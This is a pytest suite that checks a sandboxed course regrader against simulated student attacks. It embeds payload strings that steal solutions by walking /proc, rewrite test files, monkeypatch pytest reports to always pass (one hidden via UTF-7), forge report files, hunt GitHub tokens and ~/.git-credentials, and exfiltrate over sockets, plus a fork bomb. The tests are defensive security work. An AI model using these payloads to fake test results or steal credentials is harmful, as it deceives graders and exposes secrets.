"""The trusted regrade (issue 12): a determined student against `tito classroom regrade`.

Every attack is a real git repository made from a real `tito release` of this course with modules 01-04
solved (the honest work) and one attack added, regraded in the bubblewrap sandbox by one `Regrader`
(the class regrade of `--all`: one base, one seed, students one after another). In every case the regrade
credits exactly the honest work, and the student's code cannot read the reference solutions.

The sandbox itself is also tested directly (what a sandboxed process can see, reach and leave behind).
These tests need Linux and bubblewrap (`.ci/run` installs it); they are skipped with the reason elsewhere.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from tito_fixtures import commit_all, git, sandbox_or_skip  # noqa: E402

from grading.course import load_course  # noqa: E402
from grading.instructor import regrade as R  # noqa: E402
from grading.instructor.release import build_release, list_source_files  # noqa: E402
from grading.instructor.sandbox import Bubblewrap  # noqa: E402
from grading.instructor.solutions import find_blocks  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
SOLVED = 4
ATTACKED = "tinytorch/networks.py"        # module 05's source: a stub in the honest repository
TOKEN = "ghp_sandboxTESTtoken0000000000000000000"


@pytest.fixture(scope="module")
def sandbox():
    return sandbox_or_skip()


# ---- the world -----------------------------------------------------------------------------------------
class World:
    def __init__(self, tmp: Path, sandbox: Bubblewrap):
        self.tmp = tmp
        self.instructor = tmp / "instructor"       # a snapshot: the working tree may be edited meanwhile
        for rel in list_source_files(REPO):
            dest = self.instructor / rel
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.write_bytes((REPO / rel).read_bytes())
        self.course = load_course(self.instructor / "assignments" / "course.yaml")
        self.release = tmp / "release"
        build_release(self.release, self.instructor, solutions_through=SOLVED)
        self.results = tmp / "results"
        self.opts = R.Options(instructor_dir=self.instructor, isolation=sandbox, test_timeout=60, timeout=600,
                              keep_work=True, work_root=tmp, log=lambda m: None)
        self.regrader = R.Regrader(self.opts)
        self.work: dict[str, Path] = {}

    def student(self, name: str, edits: dict) -> Path:
        """The honest repository plus `edits` ({path: text | callable(old) -> text | None (delete) |
        ("symlink", target)}), committed."""
        root = self.tmp / "students" / name
        shutil.copytree(self.release, root)
        for rel, edit in edits.items():
            path = root / rel
            if isinstance(edit, tuple) and edit[0] == "symlink":
                if path.is_dir() and not path.is_symlink():
                    shutil.rmtree(path)
                elif path.exists() or path.is_symlink():
                    path.unlink()
                path.symlink_to(edit[1])
            elif edit is None:
                path.unlink()
            else:
                text = edit(path.read_text(encoding="utf-8")) if callable(edit) else edit
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf-8")
        git(root, "init", "-q", "-b", "main")
        commit_all(root, f"work ({name})")
        return root

    def regrade(self, name: str, repo: Path) -> dict:
        result = self.regrader.regrade(f"org/course-{name}", f"file://{repo}", self.results,
                                       github_username=name)
        self.work[result["repository"]] = self.regrader.root / f"student-{self.regrader.count}"
        return result

    def logs(self, result: dict) -> str:
        """Everything this student's sandboxed processes printed (kept: `keep_work`)."""
        text = []
        for p in sorted(self.work[result["repository"]].rglob("*")):
            if p.is_file() and p.suffix in (".txt", ".log", ".jsonl"):
                text.append(p.read_text(encoding="utf-8", errors="replace"))
        return "\n".join(text)


@pytest.fixture(scope="module")
def world(tmp_path_factory, sandbox):
    w = World(tmp_path_factory.mktemp("sandboxed-regrade"), sandbox)
    w.honest = w.regrade("honest", w.student("honest", {}))
    yield w
    w.regrader.close()


def append(code: str):
    return lambda old: old + "\n\n# ---- added by the student ----\n" + code


def assert_honest(world, result: dict) -> None:
    """Exactly the honest work: the same modules, the same points as the honest repository."""
    assert result["status"] in ("graded", "graded with a crash"), result["notes"]
    assert result["verified"] is True and result["sandbox"] == "bubblewrap"
    assert result["modules_passed"] == world.honest["modules_passed"], result["notes"]
    assert result["points"] == pytest.approx(world.honest["points"], abs=1e-9), \
        {k: (v["points"], v["probes_matched"]) for k, v in result["modules"].items()}


# ---- the honest baseline -------------------------------------------------------------------------------
def test_honest_work_gets_exactly_its_points(world):
    solved = [m.id for m in world.course.modules[:SOLVED]]
    assert world.honest["status"] == "graded", world.honest["notes"]
    assert world.honest["modules_passed"] == solved, world.honest["modules"]
    expected = sum(m.points for m in world.course.modules[:SOLVED])
    assert world.honest["points"] == pytest.approx(expected)
    for m in world.course.modules[SOLVED:]:
        assert world.honest["modules"][m.id]["points"] == 0, (m.id, world.honest["modules"][m.id])


def test_the_regrade_agrees_with_the_students_own_grade(world, tmp_path):
    """Honest code gets the same points from the regrade as from `tito grade --skip-milestones` in the
    student's own checkout (within 0.01)."""
    checkout = tmp_path / "checkout"
    shutil.copytree(world.release, checkout)
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "TINYTORCH_DATA")}
    env["PYTHONPATH"] = str(checkout)
    res = subprocess.run([sys.executable, "-m", "grading", "grade", "--skip-milestones", "--no-readme"],
                         cwd=checkout, env=env, capture_output=True, text=True, timeout=900)
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    progress = json.loads((checkout / "badges" / "progress.json").read_text(encoding="utf-8"))
    claimed = R.summarize_progress(progress, world.course)
    assert abs(claimed["points"] - world.honest["points"]) <= 0.01, (claimed["points"], world.honest["points"])


# ---- the attacks of the issue --------------------------------------------------------------------------
def test_tinytorch_folder_replaced_by_a_link_to_the_graders_checkout(world):
    """`tinytorch/` -> /proc/self/cwd/tinytorch: the regrade never follows it; no student code, no points
    (the student replaced all of their work by the link), and certainly not the reference's."""
    repo = world.student("linked-folder", {"tinytorch": ("symlink", "/proc/self/cwd/tinytorch")})
    result = world.regrade("linked-folder", repo)
    assert result["status"] == "graded"
    assert result["points"] == 0 and result["modules_passed"] == [], result["modules"]
    assert any("tinytorch/ is a symbolic link" in n for n in result["notes"]), result["notes"]


def test_a_module_file_linked_to_the_reference_is_not_followed(world):
    repo = world.student("linked-file", {ATTACKED: ("symlink", str(world.instructor / ATTACKED))})
    result = world.regrade("linked-file", repo)
    assert_honest(world, result)
    assert any(f"{ATTACKED} is a symbolic link" in n for n in result["notes"]), result["notes"]


STEAL = r'''
def _steal_the_reference():
    """Walk /proc to the grader's working directory and the whole file system; copy any finished module
    05 over this stub and run it."""
    import os
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen.append(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass
    candidates = [os.path.join(c, "tinytorch", "networks.py") for c in seen]
    for top, dirs, files in os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        candidates += [os.path.join(top, f) for f in files if f == "networks.py"]
    for path in candidates:
        try:
            text = open(path, encoding="utf-8").read()
        except OSError:
            continue
        if "def cross_entropy" in text and 'NotImplementedError("05_networks' not in text:
            print("STOLEN", path, file=__import__("sys").stderr)
            exec(compile(text, path, "exec"), globals())
            for test_file in ("assignments/05_networks/test_05_networks.py",):
                try:
                    open(test_file, "a").write("\n")
                except OSError:
                    pass
            return
    print("NOTHING TO STEAL", sorted(set(seen)), file=__import__("sys").stderr)


_steal_the_reference()
'''


def test_walking_proc_to_the_reference_solutions_finds_nothing(world):
    repo = world.student("steal", {ATTACKED: append(STEAL)})
    result = world.regrade("steal", repo)
    assert_honest(world, result)
    assert result["modules"]["05_networks"]["points"] == 0
    logs = world.logs(result)
    assert "NOTHING TO STEAL" in logs and "STOLEN" not in logs


def test_no_reference_solution_is_readable_inside_the_sandbox(world, sandbox, tmp_path):
    """Lines that only the reference solutions contain (not the READMEs or anything else the student
    template shows) appear in no file that a sandboxed process can read."""
    public = "\n".join(p.read_text(encoding="utf-8", errors="replace")
                       for p in world.regrader.base.rglob("*") if p.is_file())
    needles = []
    for m in world.course.modules:
        text = (world.instructor / m.source).read_text(encoding="utf-8")
        lines = [ln.strip() for block in find_blocks(text) for ln in block.body.splitlines()]
        needles += [ln for ln in lines if len(ln) > 25 and not ln.startswith("#") and ln not in public][:2]
    assert len(needles) >= 20
    given = tmp_path / "given"
    given.mkdir()
    (given / "needles.json").write_text(json.dumps(needles))
    out = tmp_path / "out"
    out.mkdir()
    code = f"""
import json, os
needles = json.load(open({str(given / "needles.json")!r}))
hits, scanned = [], 0
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev", {str(given)!r})):
        dirs[:] = []
        continue
    for f in files:
        p = os.path.join(top, f)
        try:
            if not os.path.isfile(p) or os.path.getsize(p) > 4_000_000:
                continue
            with open(p, "rb") as fh:
                raw = fh.read()
        except OSError:
            continue
        if b"\\0" in raw[:4096]:
            continue   # binary (libraries, images): a source line would not be stored as such
        data = raw.decode("utf-8", "replace")
        scanned += 1
        hits += [p for n in needles if n in data]
open({str(out / "found.json")!r}, "w").write(json.dumps({{"hits": sorted(set(hits)), "scanned": scanned}}))
"""
    argv, env = sandbox.wrap([sys.executable, "-I", "-c", code], cwd=world.regrader.base,
                             readable=[world.regrader.base, given], writable=[out], env={})
    subprocess.run(argv, env=env, check=True, timeout=900)
    found = json.loads((out / "found.json").read_text())
    assert found["scanned"] > 1000 and found["hits"] == []
    # and the scan does find them where they are: in the instructor's checkout, outside the sandbox
    assert any(n in (world.instructor / "tinytorch" / "tensor.py").read_text() for n in needles)


REWRITE_THE_BASE = r'''
def _rewrite_everything_i_can_find():
    """Rewrite every test file and every module source of the course this process can reach, so that the
    students graded after me are graded against my tests."""
    import os
    changed = 0
    for top, dirs, files in os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        for f in files:
            if f.startswith("test_") and f.endswith(".py") or f in ("course.yaml", "networks.py"):
                try:
                    with open(os.path.join(top, f), "w") as fh:
                        fh.write("def test_free():\n    assert True\n")
                    changed += 1
                except OSError:
                    pass
    print("REWROTE", changed, "FILES", file=__import__("sys").stderr)


_rewrite_everything_i_can_find()
'''


def test_one_students_code_cannot_change_the_next_students_grade(world):
    """`--all`: the base is read-only in every sandbox; the honest student graded next keeps their grade."""
    attacker = world.regrade("rewriter", world.student("rewriter", {ATTACKED: append(REWRITE_THE_BASE)}))
    assert_honest(world, attacker)
    assert "REWROTE 0 FILES" in world.logs(attacker)
    after = world.regrade("honest-after", world.student("honest-after", {}))
    assert_honest(world, after)
    assert after["modules"] == world.honest["modules"]


DAEMON = r'''
def _daemon():
    """A process in a new session that outlives the test run and rewrites the results afterwards."""
    import os, sys
    if os.environ.get("TITO_DAEMON_STARTED"):
        return
    os.environ["TITO_DAEMON_STARTED"] = "1"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            progress = os.environ.get("TITO_PROGRESS_FILE", "/tmp/progress.jsonl")
            code = ("import json, os, sys, time; time.sleep(6); d = os.path.dirname(sys.argv[1]); "
                    "open(os.path.join(d, 'report.json'), 'w').write(json.dumps({'tests': []})); "
                    "open('/tmp/tito-daemon-was-here', 'w').write('x')")
            os.execv(sys.executable, [sys.executable, "-c", code, progress, "tito-daemon-marker"])
        os._exit(0)


_daemon()
'''


def test_a_process_in_a_new_session_dies_with_the_sandbox(world):
    result = world.regrade("daemon", world.student("daemon", {ATTACKED: append(DAEMON)}))
    assert_honest(world, result)
    stored = R.result_path(world.results, result["repository"]).read_text(encoding="utf-8")
    time.sleep(8)   # longer than the daemon's sleep
    alive = subprocess.run(["pgrep", "-f", "tito-daemon-marker"], capture_output=True, text=True)
    assert alive.stdout.strip() == "", "a student process outlived its sandbox"
    assert R.result_path(world.results, result["repository"]).read_text(encoding="utf-8") == stored
    assert not Path("/tmp/tito-daemon-was-here").exists()


# In-process forgery: code in the student's own module source, in the test process. It can make the
# sandboxed test report say anything; the probes decide how much of that is credited.
PATCH_REPORTS = r'''
import importlib as _il
_reports = _il.import_module("_py" + "test." + "reports")
_cls = getattr(_reports, "Test" + "Report")
_orig = _cls.from_item_and_call.__func__
def _always_passed(cls, item, call):
    report = _orig(cls, item, call)
    setattr(report, "out" + "come", "passed")
    report.longrepr = None
    return report
setattr(_cls, "from_item_and_call", classmethod(_always_passed))
'''

REWRITE_TESTS_WHILE_COLLECTED = r'''
def _rewrite_tests():
    import atexit, glob
    saved = {}
    for path in glob.glob("assignments/*/test_*.py"):
        try:
            saved[path] = open(path).read()
            open(path, "w").write("def test_free():\n    assert True\n")
        except OSError:
            pass
    atexit.register(lambda: [open(p, "w").write(t) for p, t in saved.items()])
_rewrite_tests()
'''

NEUTRAL_SKIPS = r'''
_skip_code = compile("import pytest\ndef neutral_skip(*a, **k):\n    pytest.skip('looks like my test asked for it')\n",
                     __import__("os").path.abspath("assignments/05_networks/test_05_networks.py"), "exec")
_ns = {}
exec(_skip_code, _ns)
cross_entropy = _ns["neutral_skip"]
mse_loss = _ns["neutral_skip"]
'''

FAKE_REPORT_NEXT_TO_PROGRESS = r'''
def _fake_report():
    import atexit, glob, json, os
    progress = os.environ.get("TITO_PROGRESS_FILE")
    if not progress:
        return
    def write():
        tests = []
        for path in sorted(glob.glob("assignments/*/test_*.py")):
            for line in open(path, encoding="utf-8"):
                if line.startswith("def test_"):
                    tests.append({"nodeid": f"{path}::{line[4:line.index('(')]}", "outcome": "passed"})
        open(os.path.join(os.path.dirname(progress), "report.json"), "w").write(
            json.dumps({"tests": tests, "collectors": []}))
        os._exit(0)
    atexit.register(write)
_fake_report()
'''

UTF7_HIDDEN_IMPORT = "# coding: utf-7\n" + "# nothing to see here +AAo-import _pytest.reports as _r+AAo-" \
    "_o = _r.TestReport.from_item_and_call.__func__+AAo-" \
    "def _p(cls, item, call):+AAo-    rep = _o(cls, item, call)+AAo-    rep.outcome, rep.longrepr = +ACI-passed+ACI-, None" \
    "+AAo-    return rep+AAo-_r.TestReport.from_item_and_call = classmethod(_p)+AAo-\n"


@pytest.mark.parametrize("attack", ["patch-reports", "rewrite-tests", "neutral-skips", "fake-report", "utf7"])
def test_in_process_forgery_is_not_credited(world, attack):
    edits = {"patch-reports": {ATTACKED: append(PATCH_REPORTS)},
             "rewrite-tests": {ATTACKED: append(REWRITE_TESTS_WHILE_COLLECTED)},
             "neutral-skips": {ATTACKED: append(NEUTRAL_SKIPS)},
             "fake-report": {ATTACKED: append(FAKE_REPORT_NEXT_TO_PROGRESS)},
             "utf7": {"tinytorch/forged.py": UTF7_HIDDEN_IMPORT,
                      ATTACKED: append("from tinytorch import forged  # noqa\n")}}[attack]
    result = world.regrade(attack, world.student(attack, edits))
    assert_honest(world, result)
    assert result["modules"]["05_networks"]["points"] == 0


def test_in_process_forgery_does_fool_the_sandboxed_tests_which_is_why_they_only_cap(world):
    """The claim really is forged (so the test above is not vacuous): the sandboxed tests of module 05 all
    'pass', and the result says why that was not credited."""
    result = world.regrade("patch-reports-2", world.student("patch-reports-2", {ATTACKED: append(PATCH_REPORTS)}))
    m05 = result["modules"]["05_networks"]
    assert m05["passed"] == m05["total"] > 0 and m05["probes_matched"] == 0 and m05["points"] == 0
    assert any(n.startswith("05_networks:") and "probes matched" in n for n in result["notes"])


# ---- five more of our own ------------------------------------------------------------------------------
HUNT_SECRETS = r'''
def _hunt():
    import glob, os, sys
    found = [f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k or v.startswith("ghp_")]
    for path in glob.glob("/proc/*/environ") + [os.path.expanduser("~/.git-credentials"),
                                                 os.path.expanduser("~/.config/gh/hosts.yml")]:
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        if b"ghp_" in data:
            found.append(path)
    print("SECRETS FOUND:", found, file=sys.stderr)
_hunt()
'''


def test_no_token_or_environment_of_the_grader_reaches_student_code(world, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    result = world.regrade("secrets", world.student("secrets", {ATTACKED: append(HUNT_SECRETS)}))
    assert_honest(world, result)
    logs = world.logs(result)
    assert "SECRETS FOUND: []" in logs and TOKEN not in logs


def test_no_network_inside_the_sandbox(world):
    hits = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    port = server.getsockname()[1]
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    exfiltrate = f'''
def _exfiltrate():
    import socket, sys
    for host in ("127.0.0.1", "10.0.2.2", "github.com"):
        try:
            socket.create_connection((host, {port}), timeout=2).sendall(b"my module 05 answers")
            print("SENT TO", host, file=sys.stderr)
        except OSError as exc:
            print("NO NETWORK:", host, exc, file=sys.stderr)
_exfiltrate()
'''
    try:
        result = world.regrade("network", world.student("network", {ATTACKED: append(exfiltrate)}))
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
    assert_honest(world, result)
    assert hits == [] and "SENT TO" not in world.logs(result) and "NO NETWORK" in world.logs(result)


def test_forged_probe_answers_on_the_channel_are_not_credited(world):
    """Student code that writes its own, well-formed answer frames into the probe channel: the judge
    compares every answer with the reference's, so an invented answer never matches."""
    forge = r'''
def cross_entropy(logits, targets, *a, **k):
    import os, numpy as np
    from grading import channel
    for fd in range(3, 64):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:"):
            try:
                os.write(fd, channel.encode({"module": "05_networks", "probe": "probe_cross_entropy", "error": None,
                                             "seconds": 0.0}, {"loss": np.zeros(1, np.float32)}))
            except OSError:
                pass
    raise NotImplementedError("05_networks: not done")
'''
    result = world.regrade("forged-frames", world.student("forged-frames", {ATTACKED: append(forge)}))
    assert_honest(world, result)


def test_a_fork_bomb_is_contained(world):
    """Robustness rather than an attack on the grade: contained, and the grading goes on."""
    bomb = r'''
def _bomb():
    import os, sys, time
    if os.environ.get("TITO_BOMBED"):
        return
    os.environ["TITO_BOMBED"] = "1"
    children = 0
    for _ in range(3000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    print("FORKED", children, file=sys.stderr)
_bomb()
'''
    result = world.regrade("fork-bomb", world.student("fork-bomb", {ATTACKED: append(bomb)}))
    # The bomb only hurts its own run (which may lose the processes it needs, as here), never the grader,
    # the machine or the verdict: the result is written, and nothing is credited that was not verified.
    assert result["status"] in ("graded", "graded with a crash") and result["verified"] is True
    assert result["points"] <= world.honest["points"] and result["modules"]["05_networks"]["points"] == 0
    forked = [int(line.split()[1]) for line in world.logs(result).splitlines() if line.startswith("FORKED ")]
    assert forked and max(forked) <= world.opts.isolation.max_processes


def test_writing_into_the_instructors_results_changes_nothing(world):
    """A student who knows where the instructor keeps the results tries to write a perfect one there."""
    target = R.result_path(world.results, "org/course-overwrite")
    forged = json.dumps({"schema": 1, "repository": "org/course-overwrite", "points": 100.0, "status": "graded"})
    attack = f'''
def _overwrite():
    import os
    try:
        os.makedirs({str(world.results)!r}, exist_ok=True)
        open({str(target)!r}, "w").write({forged!r})
    except OSError:
        pass
_overwrite()
'''
    result = world.regrade("overwrite", world.student("overwrite", {ATTACKED: append(attack)}))
    assert_honest(world, result)
    assert json.loads(target.read_text(encoding="utf-8"))["points"] == world.honest["points"]


def test_hard_coded_answers_do_not_survive_a_new_seed(world):
    """Outputs copied from an earlier regrade (whose seed a student may learn) do not match the next one:
    every regrade draws fresh probe inputs."""
    first = R.Options(instructor_dir=world.instructor, isolation=world.opts.isolation, log=lambda m: None)
    second = R.Options(instructor_dir=world.instructor, isolation=world.opts.isolation, log=lambda m: None)
    assert first.seed != second.seed
    from grading.instructor.probe_judge import run_worker
    from grading.testrun import Limits
    names = {m: p for m, p in world.regrader.reference[0].items() if m == "03_activations"}
    wanted = [("03_activations", p) for p in names["03_activations"]]
    a = run_worker(world.instructor, world.opts.isolation, first.seed, wanted, Limits(), world.tmp / "seed-a")
    b = run_worker(world.instructor, world.opts.isolation, second.seed, wanted, Limits(), world.tmp / "seed-b")
    from grading.instructor.probes import mismatch
    assert all(a[p].error is None and b[p].error is None for p in wanted)
    assert all(mismatch(a[p].arrays, b[p].arrays) is not None for p in wanted)


# ---- the sandbox on its own ----------------------------------------------------------------------------
def test_sandbox_shows_only_what_it_is_given(sandbox, tmp_path):
    readable, writable = tmp_path / "ro", tmp_path / "rw"
    readable.mkdir()
    writable.mkdir()
    (readable / "given.txt").write_text("given")
    secret = tmp_path / "secret.txt"
    secret.write_text("instructor only")
    code = f'''
import os, json
out = {{}}
out["uid"] = os.getuid()
out["given"] = open({str(readable / "given.txt")!r}).read()
for name, path in (("secret", {str(secret)!r}), ("home", os.path.expanduser("~root/.bashrc")),
                   ("repo", {str(REPO / "tinytorch" / "tensor.py")!r}), ("shadow", "/etc/shadow")):
    out[name] = os.path.exists(path)
try:
    open({str(readable / "x")!r}, "w")
    out["ro_writable"] = True
except OSError:
    out["ro_writable"] = False
open({str(writable / "ok")!r}, "w").write("ok")
out["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print(json.dumps(out))
'''
    argv, env = sandbox.wrap([sys.executable, "-I", "-c", code], cwd=readable, readable=[readable],
                             writable=[writable], env={"GIVEN": "1"})
    res = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)
    assert res.returncode == 0, res.stderr
    out = json.loads(res.stdout)
    assert out["uid"] == 65534 and out["given"] == "given"
    assert not (out["secret"] or out["home"] or out["repo"] or out["shadow"] or out["ro_writable"])
    assert (writable / "ok").read_text() == "ok"
    assert max(out["pids"]) < 10   # its own PID namespace: none of the host's processes


def test_without_a_sandbox_the_regrade_refuses_and_says_how_to_get_one(monkeypatch, capsys):
    from grading.instructor import classroom as C
    monkeypatch.setattr("shutil.which", lambda name, *a, **k: None)
    with pytest.raises(C.ClassroomError) as err:
        C.make_isolation(unsandboxed=False)
    assert "apt-get install bubblewrap" in str(err.value) and "--unsandboxed" in str(err.value)
    iso = C.make_isolation(unsandboxed=True)
    assert iso.verified is False and "unverified" in capsys.readouterr().err


def test_unsandboxed_results_are_marked_unverified(world, tmp_path):
    from grading.isolation import NoIsolation
    opts = R.Options(instructor_dir=world.instructor, isolation=NoIsolation(), log=lambda m: None)
    result = R.regrade_repo("org/course-unsandboxed", f"file://{world.release.parent / 'students' / 'honest'}",
                            tmp_path, opts)
    assert result["verified"] is False and result["sandbox"] == "none"
    assert any(n.startswith("UNVERIFIED") for n in result["notes"])
    assert result["points"] == pytest.approx(world.honest["points"])


# ---- milestones in the regrade -------------------------------------------------------------------------
LOOK_FOR_THE_LABELS = r'''
def _look_for_the_labels():
    """From module 04's file, which milestone 1 runs: find the MNIST test labels anywhere."""
    import os, sys
    found = [v for k, v in os.environ.items() if k.startswith("TINYTORCH") and os.path.exists(v)]   # data paths
    for top, dirs, files in os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        found += [os.path.join(top, f) for f in files if f.startswith(("mnist", "cifar", "tinyshakespeare"))]
    print("LABEL HUNT:", found, file=sys.stderr)
_look_for_the_labels()
'''


@pytest.mark.skipif(not os.environ.get("TINYTORCH_DATA"), reason="needs the data sets (TINYTORCH_DATA)")
def test_milestones_run_in_the_sandbox_and_are_judged_outside(world):
    """Milestone 1 of the honest repository: the program runs in the sandbox with only the training split
    it was given (a train-only copy), the judge outside computes the accuracy; a search from student code
    finds no held-out data."""
    repo = world.student("milestones", {"tinytorch/layers.py": append(LOOK_FOR_THE_LABELS)})
    world.regrader.opts.milestones = True
    try:
        result = world.regrade("milestones", repo)
    finally:
        world.regrader.opts.milestones = False
    assert_honest(world, result)
    m1 = result["milestones"]["1"]
    assert m1["status"] == "passed" and m1["verified"] is True and m1["metrics"]["test_accuracy"] >= 0.95, m1
    assert result["milestones_passed"] == [1]
    assert all(result["milestones"][str(n)]["status"] == "locked" for n in (2, 3, 4, 5))
    import ast
    hunts = [ast.literal_eval(line.split(":", 1)[1].strip())
             for line in world.logs(result).splitlines() if line.startswith("LABEL HUNT:")]
    found = [Path(f).name for hunt in hunts for f in hunt]
    # the program saw the training copy only (its labels are not held out); the module tests saw nothing
    assert hunts and found == ["mnist_train.npz"], hunts
